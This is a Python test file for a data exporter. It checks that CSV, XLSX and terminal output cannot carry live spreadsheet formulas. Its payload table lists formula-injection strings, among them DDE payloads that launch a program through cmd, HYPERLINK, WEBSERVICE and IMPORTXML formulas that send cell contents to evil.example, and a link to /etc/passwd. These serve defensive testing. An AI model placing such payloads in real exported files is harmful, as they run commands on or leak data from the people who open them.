"""Formulas in cells: what is exported or printed as CSV holds none, whatever separates columns where it is read."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path

import duckdb
import pytest
from hypothesis import given
from hypothesis import strategies as st

from orchestration.cells import safe
from orchestration.exporting import ExportError, export
from orchestration.storage.home import Home
from tests.conftest import tidegauge
from tests.faults import by_hand
from tests.faults.table import Tally

PAYLOADS = {
    "formula": "=1+1",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "DDE": "=cmd|' /C calc'!A0",
    "DDE in another word": "@SUM(1+1)*cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://evil.example?x="&A1,"look")',
    "web service": '=WEBSERVICE("http://evil.example/"&A1)',
    "import of another sheet": '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    "leading space": "  =1+1",
    "leading quote": '"=1+1',
    "leading apostrophes": "''=1+1",
    "zero width space": "\u200b=1+1",
    "byte order mark": "\ufeff=1+1",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1",
    "full-width at": "＠SUM(1)",
    "behind a semicolon": "gold;=1+1;x",
    "behind a semicolon and a quote": 'gold;"=1+1";x',
    "behind a tab": "gold\t=1+1\tx",
    "in a second line": "gold\n=1+1",
    "behind a lone carriage return": "gold\r=1+1",
    "null byte": "\x00=1+1",
    "file link": "file:///etc/passwd",
    "web link": "http://evil.example/",
    "looks like a number": "0123",
    "looks like a day": "2026-01-31",
    "infinite": "-inf",
}
LIVE = "=+-@＝＋－＠"
DULL = ' "\u200b\ufeff\x00'


def live_cells(text: str) -> list[str]:
    """Cells that a spreadsheet takes for formulas, whichever sign separates columns; numbers are none."""
    found = []
    for separator in ",;\t":
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            cells = (cell.strip(DULL).lstrip() for cell in row)
            found += [c for c in cells if c[:1] in LIVE and c and not re.fullmatch(r"-?[\d.]+(e[+-]?\d+)?", c)]
    return found


@pytest.mark.fault(24)
@pytest.mark.parametrize("name", PAYLOADS)
def test_no_cell_of_an_export_is_live(name: str, tmp_path: Path, tally: Tally) -> None:
    text = PAYLOADS[name]
    edition = by_hand.publish(Home(tmp_path / "home"), [text, "plain"], column=text.replace("\0", ""))
    export(edition, "cells", tmp_path / "x.csv")
    export(edition, "cells", tmp_path / "x.xlsx")
    for file in ("x.csv", "x.csv.about.txt"):
        written = (tmp_path / file).read_text("utf-8")
        live = live_cells(written) if file == "x.csv" else [line for line in written.splitlines() if line[0] in LIVE]
        tally.holds(f"{name}, {file}", not live, live)
    with zipfile.ZipFile(tmp_path / "x.xlsx") as book:
        parts = {n: book.read(n).decode() for n in book.namelist()}
    live = [n for n, part in parts.items() if re.search(r"<f[ >]|<hyperlink|ddeLink|externalLink|TargetMode", part)]
    tally.holds(f"{name}, x.xlsx", not live, live)


def test_a_workbook_has_numbers_days_and_texts_as_what_they_are(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    edition = by_hand.publish(Home(tmp_path / "home"), ["=1+1", "0123", "http://x.example/"])
    done = export(edition, "FROM cells ORDER BY area", tmp_path / "x.xlsx")
    book = load_workbook(tmp_path / "x.xlsx")
    head, *rows = book["data"].iter_rows(values_only=True)
    assert head == ("area", "value", "period_end", "known_at")
    day, moment = datetime(2026, 1, 31), datetime(2026, 2, 1, 12)
    assert rows == [(t, -1.5, day, moment) for t in ("0123", "=1+1", "http://x.example/")]
    assert {cell.data_type for cell in book["data"]["A"]} == {"s"}
    assert ("area", "VARCHAR", "=1+1, USD mn") in list(book["columns"].iter_rows(values_only=True))
    assert done.rows == 3


def test_what_may_not_be_passed_on_is_said_first(tmp_path: Path) -> None:
    edition = by_hand.publish(Home(tmp_path / "home"))
    assert export(edition, "cells", tmp_path / "cells.csv").private == ()
    about = (tmp_path / "cells.csv.about.txt").read_text("utf-8")
    assert "open__one: =credit" in about
    assert "own__two" not in about
    # from SQL inside a text nothing can be told: every release that has figures may have gone in
    done = export(edition, "SELECT * FROM query('FROM ' || 'cells')", tmp_path / "x.parquet")
    assert [c.release for c in done.private] == ["own__two"]
    lines = (tmp_path / "x.parquet.about.txt").read_text("utf-8").splitlines()
    assert next(i for i, line in enumerate(lines) if "own__two" in line) < next(
        i for i, line in enumerate(lines) if "open__one" in line
    )
    assert "do not pass on" in next(line for line in lines if "own__two" in line)
    assert "open__none" not in "".join(lines)


def test_parquet_and_csv_give_the_rows_back(tmp_path: Path) -> None:
    edition = by_hand.publish(Home(tmp_path / "home"), ["a", 'b,"c"'])
    for file in ("x.csv", "x.parquet"):
        export(edition, "cells", tmp_path / file)
        rows = duckdb.sql(f"SELECT area, value, period_end FROM '{tmp_path / file}' ORDER BY 1").fetchall()
        assert rows == [("a", -1.5, date(2026, 1, 31)), ('b,"c"', -1.5, date(2026, 1, 31))]


@pytest.mark.parametrize(
    ("what", "file", "why"),
    [
        ("cells", "x.pdf", "ends in .csv, .xlsx, .parquet"),
        ("nothing", "x.csv", "syntax error"),
        ("FROM nothing", "x.csv", "does not exist"),
        ("cells", "nowhere/x.csv", "No such file"),
        ("FROM range(1048576)", "x.xlsx", "at most 1,048,575 rows"),
        ("SELECT repeat('x', 40000)", "x.xlsx", "at most 32,767 characters"),
        ("cells", "home/editions/2026-01-01T000000Z-00000000/x.csv", "outside the editions"),
    ],
)
def test_what_cannot_be_exported_says_why_and_leaves_no_file(what: str, file: str, why: str, tmp_path: Path) -> None:
    edition = by_hand.publish(Home(tmp_path / "home"))
    with pytest.raises(ExportError, match=why):
        export(edition, what, tmp_path / file)
    assert not [p for p in tmp_path.rglob("*") if p.name.startswith(("x.", ".x."))]


def test_the_command_prints_what_was_written_and_what_is_private(tmp_path: Path) -> None:
    home = Home(tmp_path / "home")
    by_hand.publish(home)
    done = tidegauge(home, "export", "FROM cells, releases, query('SELECT 1')", "--to", str(tmp_path / "all.xlsx"))
    assert done.returncode == 0, done.stderr
    assert "all.xlsx: 3 rows" in done.stdout
    assert "do not pass on: it may hold figures of own__two" in done.stderr


@pytest.mark.fault(24)
def test_csv_on_the_terminal_is_as_safe(tmp_path: Path, tally: Tally, capsys: pytest.CaptureFixture[str]) -> None:
    from orchestration.querying import answer

    edition = by_hand.publish(Home(tmp_path / "home"), list(PAYLOADS.values()))
    answer(edition, 'SELECT area, area AS "=1+1", value FROM cells', "csv")
    live = live_cells(capsys.readouterr().out)
    tally.holds("query --format csv", not live, live)


@given(st.text(alphabet=st.sampled_from("=+-@;,\t\r\n'\" a1＝\u200b"), max_size=8))
def test_no_text_whatever_becomes_a_formula(text: str) -> None:
    line = io.StringIO()
    csv.writer(line, lineterminator="\n").writerow(["x", safe(text), "y"])
    assert not [cell for cell in live_cells(line.getvalue()) if cell not in ("-", "+")], (text, line.getvalue())


@pytest.mark.parametrize("value", [1, -1.5, Decimal("-2.5"), True, -(10**30)])
def test_a_number_stays_a_number(value: object) -> None:
    assert safe(value) == value


def test_a_moment_is_written_in_iso_8601() -> None:
    assert safe(datetime(2026, 1, 2, tzinfo=UTC)) == "2026-01-02T00:00:00+00:00"
